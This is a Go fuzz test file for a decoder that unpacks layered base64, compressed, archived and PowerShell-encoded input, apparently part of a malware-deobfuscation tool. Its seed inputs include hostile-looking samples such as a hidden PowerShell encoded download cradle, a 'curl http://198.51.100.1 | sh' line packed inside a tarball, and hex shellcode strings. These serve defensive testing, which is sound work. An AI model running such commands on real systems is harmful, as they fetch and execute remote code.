package decode

import (
	"context"
	"encoding/base64"
	"errors"
	"testing"
)

// fuzzLimits keep each input cheap while still exercising every limit.
var fuzzLimits = Limits{MaxDepth: 4, MaxTotalBytes: 1 << 20, MaxMemberBytes: 256 << 10, MaxMembers: 64, MaxSteps: 200}

// checkFuzzResult verifies what must hold for any input.
func checkFuzzResult(t *testing.T, in string, res Result, err error) {
	t.Helper()
	if err != nil && !errors.Is(err, ErrLimit) {
		t.Fatalf("unexpected error %v", err)
	}
	if (err == nil) != (res.Limit == "") {
		t.Fatalf("error %v but Result.Limit %q", err, res.Limit)
	}
	lim := fuzzLimits.withDefaults()
	if len(res.Steps) > lim.MaxSteps {
		t.Fatalf("%d steps over the limit", len(res.Steps))
	}
	for _, s := range res.Steps {
		if s.Depth > lim.MaxDepth+1 || s.Size > lim.MaxMemberBytes+lim.MaxTotalBytes {
			t.Fatalf("step beyond limits: %+v", s)
		}
	}
	checkSteps(t, in, res)
}

func FuzzUnpack(f *testing.F) {
	for _, s := range []string{
		`powershell -nop -w hidden -enc ` + psEnc(cradle),
		`powershell –e ` + psEnc("whoami"),
		`x ` + b64(gz(f, []byte(cradle))) + ` ` + bzip2Script,
		`buf = "` + escapedHexOf(shellcode(20)) + `" ` + hexListOf(shellcode(20)),
		`GET /a?q=%3Cscript%3E%u0041%u0042 HTTP/1.1`,
		"-----BEGIN-----\n" + wrap(b64(fakePE(300)), 64) + "\n-----END-----",
		`0x636d642e657865202f63 eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x -ec -enc: -e`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		res, err := Unpack(context.Background(), in, fuzzLimits)
		checkFuzzResult(t, in, res, err)
	})
}

// FuzzUnpackPayload feeds arbitrary bytes through base64, so that the
// archive, compression and file-type code sees fuzzed data directly.
func FuzzUnpackPayload(f *testing.F) {
	for _, b := range [][]byte{
		zipOf(f, file{"a.txt", []byte("hello " + psEnc("dir"))}, file{"b.exe", fakePE(200)}),
		gz(f, tarOf(f, file{"x/y.sh", []byte("curl http://198.51.100.1 | sh")})),
		zlibbed(f, []byte(cradle)),
		deflated(f, []byte(cradle)),
		gz(f, gz(f, []byte("nested"))),
		fakePE(128),
		utf16le("Write-Host hello"),
	} {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		in := "x=" + base64.StdEncoding.EncodeToString(data)
		res, err := Unpack(context.Background(), in, fuzzLimits)
		checkFuzzResult(t, in, res, err)
	})
}
